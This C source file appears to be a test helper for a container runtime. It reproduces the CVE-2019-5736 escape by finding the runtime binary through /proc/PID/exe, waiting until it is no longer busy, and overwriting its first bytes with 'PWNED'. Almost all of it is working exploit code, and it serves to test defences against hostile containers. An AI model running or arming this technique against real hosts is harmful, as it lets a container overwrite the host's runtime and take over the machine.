/*
 * exe_thief: what a hostile container does to overwrite the host's runtime
 * (CVE-2019-5736), for runtime/tests/hostile_containers.rs.
 *
 *   exe_thief NEEDLE SECONDS
 *
 * For SECONDS it watches every process it can see, and opens /proc/PID/exe of
 * each whose executable's path contains NEEDLE (the runtime binary, seen from
 * inside the container while it enters or runs there). Then, for each file it
 * holds, it waits until nothing executes it any more (ETXTBSY) and writes
 * "PWNED" over its first bytes, through /proc/self/fd. It prints one line per
 * catch and per write, and a summary: "caught N wrote M".
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: exe_thief NEEDLE SECONDS\n");
        return 2;
    }
    const char *needle = argv[1];
    double deadline = now() + atof(argv[2]);
    int held[64];
    int caught = 0, wrote = 0;
    pid_t self = getpid();
    while (now() < deadline && caught < 64) {
        for (int pid = 1; pid < 256 && caught < 64; pid++) {
            if (pid == self) {
                continue;
            }
            char path[64], link[512];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t len = readlink(path, link, sizeof link - 1);
            if (len < 0) {
                continue;
            }
            link[len] = '\0';
            if (strstr(link, needle) == NULL) {
                continue;
            }
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd >= 0) {
                held[caught++] = fd;
                printf("caught pid %d: %s\n", pid, link);
                fflush(stdout);
            }
        }
    }
    for (int i = 0; i < caught; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        for (int tries = 0; tries < 300; tries++) {
            int w = open(path, O_WRONLY | O_CLOEXEC);
            if (w >= 0) {
                if (pwrite(w, "PWNED", 5, 0) == 5) {
                    wrote++;
                    printf("wrote through %s\n", path);
                }
                close(w);
                break;
            }
            if (errno != ETXTBSY) {
                printf("cannot write %s: %s\n", path, strerror(errno));
                break;
            }
            usleep(10000);
        }
    }
    printf("caught %d wrote %d\n", caught, wrote);
    return 0;
}
